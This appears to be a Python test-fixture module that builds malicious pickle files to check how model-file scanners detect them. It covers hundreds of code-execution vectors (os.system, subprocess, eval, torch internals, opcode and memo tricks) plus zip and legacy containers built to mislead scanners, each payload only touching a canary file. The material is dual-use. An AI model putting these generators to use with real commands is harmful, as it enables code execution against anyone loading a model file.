"""Pickles that attack whoever unpickles them, in the ways that are published.

Each would touch a file (the canary) under Python's own pickle. The classes of attack
are those that picklescan, fickling and modelscan describe, and the advisories about
them; the generators are written here.
"""

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Callable


def text(value: str) -> bytes:
    """A string of protocol 2."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(path: str) -> bytes:
    """A global of protocol 0 to 2; `module:attribute`."""
    module, _, attribute = path.partition(":")
    return f"c{module}\n{attribute}\n".encode()


def stack_name(path: str) -> bytes:
    """A global of protocol 4."""
    module, _, attribute = path.partition(":")
    return text(module) + text(attribute) + b"\x93"


def call(path: str, *args: bytes) -> bytes:
    """`path(*args)`, the arguments being pickled already."""
    return name(path) + b"(" + b"".join(args) + b"tR"


def with_canary(canary: str) -> dict[str, bytes]:
    """The pickles by their names, without protocol and STOP."""
    command = text(f"touch {canary}")
    python = text(f"open({canary!r}, 'w').close()")
    imported = text(f"__import__('os').system('touch {canary}')")
    nested = pickle.dumps({"x": 1}, 2)[:-1] + call("os:system", command) + b"."
    raw_nested = b"B" + struct.pack("<I", len(nested)) + nested
    found = _commands(command, canary) | _code(python, imported)
    found |= _indirect(command, python) | _nested(raw_nested, text(canary))
    found |= _opcodes(command) | _states(command) | _safe_callables(command)
    return found | _hidden(command)


def _commands(command: bytes, canary: str) -> dict[str, bytes]:
    shell = b"]" + text("touch") + b"a" + text(canary) + b"a"
    paths = {
        "os:system": [command],
        "posix:system": [command],
        "nt:system": [command],
        "os:popen": [command],
        "os:execvp": [text("touch"), shell],
        "os:spawnlp": [b"K\0", text("touch"), text("touch"), text(canary)],
        "subprocess:Popen": [shell],
        "subprocess:call": [shell],
        "subprocess:run": [shell],
        "subprocess:check_output": [shell],
        "subprocess:getoutput": [command],
        "commands:getoutput": [command],
        "_posixsubprocess:fork_exec": [shell],
        "pty:spawn": [shell],
        "asyncio.subprocess:create_subprocess_shell": [command],
        "asyncio.unix_events:_UnixSubprocessTransport._start": [command],
        "uuid:_get_command_stdout": [text("touch"), text(canary)],
        "_osx_support:_read_output": [command],
        "_aix_support:_read_cmd_output": [command],
        "platform:popen": [command],
        "webbrowser:open": [text("file:///")],
        "imaplib:IMAP4_stream": [command],
        "pydoc:pipepager": [text("x"), command],
        "_pyrepl.pager:pipe_pager": [text("x"), command],
        "torch.utils.collect_env:run": [command],
        "torch._inductor.codecache:compile_file": [text(""), text(""), shell],
        "distutils.spawn:spawn": [shell],
        "test.support.script_helper:assert_python_ok": [text("-c"), text("1")],
        "ensurepip:_run_pip": [b"]"],
        "pip:main": [b"]" + text("install") + b"a"],
        "pip._internal:main": [b"]" + text("install") + b"a"],
        "venv:create": [text(canary)],
        "shutil:copyfile": [text("/etc/hostname"), text(canary)],
        "shutil:rmtree": [text(canary)],
        "distutils.file_util:write_file": [text(canary), b"]"],
        "io:FileIO": [text(canary), text("w")],
        "_io:FileIO": [text(canary), text("w")],
        "builtins:open": [text(canary), text("w")],
        "__builtin__:file": [text(canary), text("w")],
        "logging:FileHandler": [text(canary)],
        "numpy:memmap": [text(canary)],
        "numpy:fromfile": [text(canary)],
        "numpy:save": [text(canary), b"]"],
        "sqlite3:connect": [text(canary)],
        "os:mkdir": [text(canary)],
        "pathlib:Path.touch": [text(canary)],
        "socket:create_connection": [text("localhost"), b"K\1"],
        "ssl:get_server_certificate": [text("localhost")],
        "urllib.request:urlopen": [text("file:///")],
        "requests.api:get": [text("http://localhost")],
        "aiohttp.client:ClientSession": [],
        "httplib:HTTPSConnection": [text("localhost")],
        "ctypes:CDLL": [text("libc.so.6")],
        "signal:raise_signal": [b"K\x09"],
        "sys:exit": [],
        "os:_exit": [b"K\1"],
    }
    return {path: call(path, *args) for path, args in paths.items()}


def _code(python: bytes, imported: bytes) -> dict[str, bytes]:
    empty = b"}"
    paths = {
        "builtins:eval": [imported],
        "builtins:exec": [python],
        "__builtin__:eval": [imported],
        "__builtin__:execfile": [text("/dev/null")],
        "builtins:compile": [python, text("x"), text("exec")],
        "builtins:__import__": [text("antigravity")],
        "builtins:breakpoint": [],
        "builtins:help": [],
        "runpy:_run_code": [python, empty],
        "runpy:run_path": [text("/dev/null")],
        "runpy:run_module": [text("this")],
        "code:InteractiveInterpreter.runcode": [python],
        "timeit:timeit": [python],
        "cProfile:run": [python],
        "profile:run": [python],
        "bdb:Bdb.run": [python],
        "pdb:run": [python],
        "trace:Trace.run": [python],
        "doctest:debug_script": [python],
        "importlib:import_module": [text("this")],
        "importlib._bootstrap:_load": [python],
        "imp:load_source": [text("x"), text("/dev/null")],
        "zipimport:zipimporter": [text("/dev/null")],
        "pkgutil:resolve_name": [text("os:system")],
        "pydoc:locate": [text("os.system")],
        "types:CodeType": [b"K\0"] * 6,
        "types:FunctionType": [python, empty],
        "numpy.testing._private.utils:runstring": [python, empty],
        "numpy.testing:rundocs": [text("/dev/null")],
        "numpy.f2py.crackfortran:getlincoef": [imported, empty],
        "numpy.distutils.exec_command:exec_command": [imported],
        "torch.jit:script": [python],
        "torch.jit.unsupported_tensor_ops:execWrapper": [python, empty, empty],
        "torch.fx.graph_module:reduce_graph_module": [empty, python],
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression": [
            imported
        ],
        "torch._dynamo.guards:GuardBuilder.get": [imported],
        "torch._utils:_import_dotted_name": [text("os.system")],
        "torch.utils.bottleneck.__main__:run_cprofile": [python, empty],
        "torch.utils._config_module:ConfigModule.load_config": [python],
        "torch.hub:load": [text("a/b"), text("c")],
        "lib2to3.pgen2.grammar:Grammar.loads": [python],
        "idlelib.pyshell:ModifiedInterpreter.runcode": [python],
        "cloudpickle.cloudpickle:_make_function": [python],
        "cloudpickle.cloudpickle:subimport": [text("os")],
        "dill._dill:_create_function": [python],
        "joblib.externals.cloudpickle:_builtin_type": [text("CodeType")],
        "logging.config:dictConfig": [empty],
        "unittest.mock:_importer": [text("os")],
        "xmlrpc.client:loads": [python],
        "sympy.core.sympify:sympify": [imported],
    }
    return {path: call(path, *args) for path, args in paths.items()}


def _indirect(command: bytes, python: bytes) -> dict[str, bytes]:
    builtins = call("builtins:__import__", text("builtins"))
    system = call(
        "builtins:getattr", call("builtins:__import__", text("os")), text("system")
    )
    partial = call("functools:partial", name("os:system"), command)
    getter = name("operator:attrgetter") + text("system") + b"\x85R"
    return {
        "getattr chain": system + command + b"\x85R",
        "getattr of builtins": call("builtins:getattr", builtins, text("eval"))
        + python
        + b"\x85R",
        "dotted name": stack_name("builtins:getattr.__self__.eval") + python + b"\x85R",
        "dotted class": stack_name("torch:nn.Module.__init__.__globals__") + b")R",
        "dotted own module": stack_name("torch.nn.functional:torch.os.system")
        + command
        + b"\x85R",
        "subclasses": stack_name("builtins:object.__subclasses__") + b")R",
        "attrgetter": getter + call("builtins:__import__", text("os")) + b"\x85R",
        "methodcaller": call("operator:methodcaller", text("system"), command)
        + name("os:__name__")
        + b"\x85R",
        "itemgetter": call("operator:itemgetter", text("system")) + b"}\x85R",
        "partial": partial + b")R",
        "partial by build": name("functools:partial")
        + b")\x81(ctypes\nFunctionType\n)}NtbR",
        "map": call("builtins:map", name("os:system"), b"]" + command + b"a"),
        "list of map": call(
            "builtins:list",
            call("builtins:map", name("os:system"), b"]" + command + b"a"),
        ),
        "filter in bytes": call(
            "builtins:bytes",
            call("builtins:filter", name("os:system"), b"]" + command + b"a"),
        ),
        "reduce": call("functools:reduce", name("os:system"), b"]" + command + b"a"),
        "apply": call("__builtin__:apply", name("os:system"), command + b"\x85"),
        "property": call("builtins:property", name("os:system")),
        "type": call("builtins:type", text("X"), b")", b"}"),
        "defaultdict factory": call("collections:defaultdict", name("os:system")),
        "weakref finalize": call(
            "weakref:finalize", name("builtins:set"), name("os:system")
        ),
        "atexit": call("atexit:register", name("os:system"), command),
        "threading": call("threading:Thread", b"N", name("os:system")),
        "thread start": call(
            "_thread:start_new_thread", name("os:system"), command + b"\x85"
        ),
        "sys.modules": call("builtins:setattr", name("sys:modules"), text("x"), b"K\1"),
        "globals": call("builtins:globals"),
        "concurrent": call(
            "concurrent.futures:ThreadPoolExecutor.submit", name("os:system")
        ),
        "multiprocessing": call("multiprocessing:Process", b"N", name("os:system")),
        "contextlib": call("contextlib:ExitStack.callback", name("os:system"), command),
    }


def _nested(nested: bytes, canary: bytes) -> dict[str, bytes]:
    paths = """pickle:loads _pickle:loads cPickle:loads pickle:_loads dill:loads
    cloudpickle:loads marshal:loads torch.storage:_load_from_bytes
    torch.serialization:_legacy_load torch:load torch.serialization:load
    joblib:load numpy:load pandas:read_pickle shelve:open
    torch.utils.data.datapipes.utils.decoder:basichandlers
    torch.multiprocessing.reductions:rebuild_tensor numpy.lib.format:read_array
    torch.distributed.rpc.internal:_internal_rpc_pickler.deserialize
    torch.utils.model_zoo:load_url""".split()
    found = {f"nested {path}": call(path, nested) for path in paths}
    found["file load"] = call("torch:load", canary)
    return found


def _opcodes(command: bytes) -> dict[str, bytes]:
    return {
        "stack global": stack_name("os:system") + command + b"\x85R",
        "inst": b"(" + command + b"ios\nsystem\n",
        "obj": b"(" + name("os:system") + command + b"o",
        "newobj": name("os:system") + command + b"\x85\x81",
        "newobj_ex": name("os:system") + command + b"\x85}\x92",
        "text opcodes": b"cos\nsystem\n(S'" + command[5:] + b"'\ntR",
        "name from memo": text("os")
        + b"q\x010"
        + text("system")
        + b"q\x020h\x01h\x02\x93"
        + command
        + b"\x85R",
        "name from text opcode": b"Vos\nVsystem\n\x93" + command + b"\x85R",
        "name of old string": b"U\x02osU\x06system\x93" + command + b"\x85R",
        "name by dup": text("os") + text("system") + b"20\x93" + command + b"\x85R",
        "name in long string": b"\x8d"
        + struct.pack("<Q", 2)
        + b"os"
        + text("system")
        + b"\x93"
        + command
        + b"\x85R",
        "module of unicode": text("ｏs")
        + text("system")
        + b"\x93"
        + command
        + b"\x85R",
        "name with newline": b"cos\nsystem\r\n" + command + b"\x85R",
        "name with space": b"cos \nsystem\n" + command + b"\x85R",
        "empty module": b"c\nsystem\n" + command + b"\x85R",
        "memo out of order": name("os:system")
        + b"r\xff\xff\xff\xff0j\xff\xff\xff\xff"
        + command
        + b"\x85R",
        "memo overwritten": name("collections:OrderedDict")
        + b"q\x000"
        + name("os:system")
        + b"q\x00h\x00"
        + command
        + b"\x85R0",
        "extension": b"\x82\x01",
        "extension 2": b"\x83\x01\x00",
        "extension 4": b"\x84\x01\x00\x00\x00",
        "persistent text": b"Pos.system\n",
        "persistent call": name("os:system") + command + b"\x85RQ",
        "called twice": name("os:system") + command + b"\x85R" + command + b"\x85R",
        "frame lies": b"\x95" + b"\xff" * 8 + call("os:system", command),
        "protocol in the middle": b"\x80\x04"
        + call("os:system", command)
        + b"\x80\x02",
        "popped result": call("os:system", command) + b"0N",
        "in a key": b"}" + call("os:system", command) + b"K\x01s",
        "in a set": b"\x8f(" + call("os:system", command) + b"\x90",
        "in a frozenset": b"(" + call("os:system", command) + b"\x91",
        "before damage": call("os:system", command) + b"\xff",
        "before the end": call("os:system", command) + b"X\xff\xff\xff\xff",
    }


def _states(command: bytes) -> dict[str, bytes]:
    module = name("torch.nn.modules.linear:Linear") + b")\x81"
    evil = call("os:system", command)
    return {
        "setstate of partial": name("functools:partial")
        + b")\x81("
        + name("os:system")
        + command
        + b"\x85}Ntb",
        "class overwritten": module
        + b"}"
        + text("__class__")
        + name("os:system")
        + b"sb",
        "dict overwritten": module + b"}" + text("__dict__") + b"}sb",
        "forward overwritten": module
        + b"}"
        + text("forward")
        + name("os:system")
        + b"sb",
        "call overwritten": module
        + b"}"
        + text("__call__")
        + name("os:system")
        + b"sb",
        "reduce overwritten": module
        + b"}"
        + text("__reduce__")
        + name("os:system")
        + b"sb",
        "hook": module
        + b"}"
        + text("_forward_hooks")
        + b"}K\x01"
        + name("os:system")
        + b"ssb",
        "state in slots": module
        + b"N}"
        + text("__class__")
        + name("os:system")
        + b"s\x86b",
        "state of a class": name("torch.nn.modules.linear:Linear")
        + b"}"
        + text("forward")
        + evil
        + b"sb",
        "state of a function": name("torch.nn.functional:relu")
        + b"}"
        + text("__code__")
        + evil
        + b"sb",
        "state of a builtin": name("collections:OrderedDict")
        + b"}"
        + text("x")
        + evil
        + b"sb",
        "tensor class": name("torch:Tensor")
        + b")\x81}"
        + text("__class__")
        + evil
        + b"sb",
        "tensor hooks": call(
            "torch._utils:_rebuild_parameter",
            name("torch:Tensor") + b")\x81",
            b"\x89",
            b"}K\x01" + name("os:system") + b"s",
        ),
        "method of a layer": call("torch.nn.modules.module:Module.apply", evil),
        "optimizer by call": call("torch.optim.adam:Adam", evil),
        "layer by call": call("torch.nn.modules.linear:Linear", evil, b"K\1"),
    }


def _safe_callables(command: bytes) -> dict[str, bytes]:
    evil = call("os:system", command)
    safe = """collections:OrderedDict collections:Counter collections:defaultdict
    builtins:set builtins:frozenset builtins:bytearray builtins:complex torch:Size
    torch:device torch:Tensor _codecs:encode torch._utils:_rebuild_tensor_v2
    torch._tensor:_rebuild_from_type_v2 torch._utils:_rebuild_parameter_with_state
    torch.serialization:_get_layout numpy:dtype numpy:ndarray
    numpy.core.multiarray:_reconstruct numpy.core.multiarray:scalar
    copyreg:_reconstructor copyreg:__newobj__ copyreg:__newobj_ex__ datetime:datetime
    pathlib:PosixPath types:SimpleNamespace""".split()
    found = {f"safe {path} of an attack": call(path, evil) for path in safe}
    found |= {f"safe {path} of a name": call(path, name("os:system")) for path in safe}
    rebuilt = [name("os:system"), name("torch:Tensor"), command + b"\x85", b"}"]
    found["rebuild by a name"] = call("torch._tensor:_rebuild_from_type_v2", *rebuilt)
    found["reconstruct a name"] = call(
        "copyreg:_reconstructor", name("os:system"), name("builtins:object"), b"N"
    )
    found["numpy object array"] = call("numpy:dtype", text("O8"))
    found["codec"] = call("_codecs:encode", command, text("zip"))
    return found


def _hidden(command: bytes) -> dict[str, bytes]:
    evil = call("os:system", command)
    deep = b"]" * 2000 + evil + b"a" * 2000
    return {
        "behind depth": deep,
        "behind a big string": text("x" * 100_000) + b"0" + evil,
        "behind many marks": b"(" * 1000 + evil + b"1" * 1000,
        "in a tensor's place": b"}" + text("weight") + evil + b"s",
        "in a list of names": b"](" + name("os:system") * 50 + b"e",
    }


def containers(pickled: bytes, extra: bytes = b"") -> dict[str, bytes]:
    """Files around a pickle (with STOP), among them those that mislead scanners."""
    build: dict[str, Callable[[], bytes]] = {
        "zip": lambda: archive(pickled),
        "legacy": lambda: legacy(pickled),
        "zip, encrypted by its flags": lambda: archive(pickled, flags=0x1),
        "zip, strong encryption": lambda: archive(pickled, flags=0x41),
        "zip, odd flags": lambda: archive(pickled, flags=0x2008),
        "zip, another local name": lambda: archive(pickled, local=b"archive/data.pkk"),
        "zip, wrong checksum": lambda: archive(pickled, crc=1),
        "zip, wrong size": lambda: archive(pickled, size=len(pickled) - 1),
        "zip, unknown method": lambda: archive(pickled, method=99),
        "zip, another folder": lambda: archive(pickled, folder=b"../archive"),
        "zip, absolute": lambda: archive(pickled, folder=b"/archive"),
        "zip after bytes": lambda: b"\x80\x02N." + archive(pickled),
        "zip before bytes": lambda: archive(pickled) + b"\x80\x02N.",
        "7z": lambda: b"7z\xbc\xaf\x27\x1c" + pickled,
        "bare pickle": lambda: pickled,
    }
    return {kind: make() for kind, make in build.items()}


def archive(
    pickled: bytes,
    flags: int = 0,
    local: bytes | None = None,
    crc: int | None = None,
    size: int | None = None,
    method: int = 0,
    folder: bytes = b"archive",
) -> bytes:
    """A model file with one record, its directory lying where told to."""
    path = folder + b"/data.pkl"
    crc = zlib.crc32(pickled) if crc is None else crc
    size = len(pickled) if size is None else size
    common = struct.pack("<HHHHLLL", flags, method, 0, 0, crc, size, size)
    head = local or path
    out = b"PK\3\4\x14\0" + common + struct.pack("<HH", len(head), 0) + head + pickled
    entry = b"PK\1\2\x14\0\x14\0" + common
    entry += struct.pack("<HHHHHLL", len(path), 0, 0, 0, 0, 0, 0) + path
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(out), 0)
    return out + entry + end


def legacy(pickled: bytes) -> bytes:
    """The stream before zip files, with the pickle in every place of it."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    return head + pickle.dumps({"little_endian": True}, 2) + pickled + b"\x80\x02]."
